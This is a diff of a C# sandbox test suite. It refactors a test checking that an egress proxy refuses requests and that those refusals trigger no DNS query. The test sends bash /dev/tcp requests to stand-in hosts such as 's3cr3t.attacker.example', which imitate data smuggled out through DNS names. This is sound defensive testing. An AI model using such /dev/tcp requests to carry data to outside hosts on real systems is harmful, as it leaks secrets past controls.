@@ -81,27 +81,21 @@ public abstract class HostileAgentContract(IEngineUnderTest target) : IAsyncLife
     public async Task Refused_requests_through_the_proxy_cause_no_dns_query()
     {
         var runId = $"dns-{Guid.NewGuid():N}"[..16];
-        var scope = Labels.ScopeOf($"/test/{runId}");
+        var scope = new BoxScope(Labels.ScopeOf($"/test/{runId}"));
         await using var dns = await DnsRecorder.StartAsync(Target.Engine, runId);
-        var options = new EgressOptions(ImageRecipe.EgressProxy().Tag, ["allowed.example", "10.9.8.7"], "", null) { DnsServers = [dns.Address] };
-        await using var gateway = await EgressGateway.StartAsync(Target.Engine, scope, runId, options, CancellationToken.None);
-        var network = await gateway.CreateTaskNetworkAsync("client", CancellationToken.None);
-        try
+        var egress = new EgressSpec(ImageRecipe.EgressProxy().Tag, ["allowed.example", "10.9.8.7"], new ModelRoute("", null)) { DnsServers = [dns.Address] };
+        await using var site = await Target.Engine.Backend.OpenRunSiteAsync(new RunSiteSpec(scope, runId, NetworkIntent.Allowlist, egress), CancellationToken.None);
         {
             // An IP URL (a reverse lookup would leak it), a name carrying data (a forward lookup would), the
             // same by CONNECT; then an allowed name, which must be resolved: proof the recorder sees queries.
             var requests = string.Join("; ", new[] { "GET http://1.2.3.4/", "GET http://s3cr3t.attacker.example/", "CONNECT s3cr3t2.attacker.example:443", "GET http://allowed.example/" }
                 .Select(r => $"exec 3<>/dev/tcp/sandbox-proxy/3128 && printf '{r} HTTP/1.0\\r\\n\\r\\n' >&3 && head -c 12 <&3; echo"));
-            var output = await RunClientAsync(runId, network, requests);
+            var output = await RunClientAsync(site, requests);
 
             Assert.Contains("HTTP/1.1 403", output, StringComparison.Ordinal);
             var queries = await WaitForQueryAsync(dns, "allowed.example");
             Assert.Contains("allowed.example", queries);
             Assert.DoesNotContain(queries, q => q.Contains("attacker", StringComparison.OrdinalIgnoreCase) || q.Contains("4.3.2.1", StringComparison.Ordinal));
-        }
-        finally
-        {
-            await gateway.ReleaseTaskNetworkAsync(network, CancellationToken.None);
         }
     }
 
@@ -302,10 +296,10 @@ public abstract class HostileAgentContract(IEngineUnderTest target) : IAsyncLife
         return result;
     }
 
-    private async Task<string> RunClientAsync(string runId, TaskNetwork network, string script)
+    private async Task<string> RunClientAsync(IRunSite site, string script)
     {
-        var id = await Target.Engine.CreateAsync(
-            new ContainerSpec
+        await using var box = await site.CreateBoxAsync(
+            new BoxSpec
             {
                 Image = DockerFixture.FakeCodexImage,
                 Entrypoint = ["bash", "-c", script],
@@ -313,27 +307,15 @@ public abstract class HostileAgentContract(IEngineUnderTest target) : IAsyncLife
                 User = "1000:1000",
                 WorkingDirectory = "/",
                 Environment = new Dictionary<string, string>(),
-                Mounts = [],
-                Labels = new Dictionary<string, string> { [Labels.Run] = runId },
                 // Room for gVisor's own threads and memory, which a container's limits count too.
                 Limits = new ResourceLimits(MemoryBytes: 256L * 1024 * 1024, Cpus: 0.5, Pids: 128, TmpBytes: 1024 * 1024),
-                NetworkMode = network.NetworkMode,
                 Runtime = Target.Runtime,
+                Identity = new BoxIdentity("client"),
             },
             CancellationToken.None);
-        try
-        {
-            await Target.Engine.StartAsync(id, CancellationToken.None);
-            using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(60));
-            await Target.Engine.WaitAsync(id, deadline.Token);
-            var output = new System.Text.StringBuilder();
-            await Target.Engine.ReadLogsAsync(id, follow: false, (_, bytes) => output.Append(System.Text.Encoding.UTF8.GetString(bytes)), CancellationToken.None);
-            return output.ToString();
-        }
-        finally
-        {
-            await Target.Engine.RemoveAsync(id, CancellationToken.None);
-        }
+        var output = new System.Text.StringBuilder();
+        await box.RunAsync(TimeSpan.FromSeconds(60), (_, bytes) => output.Append(System.Text.Encoding.UTF8.GetString(bytes)), null, CancellationToken.None, CancellationToken.None);
+        return output.ToString();
     }
 
     private static async Task<IReadOnlyList<string>> WaitForQueryAsync(DnsRecorder dns, string name)
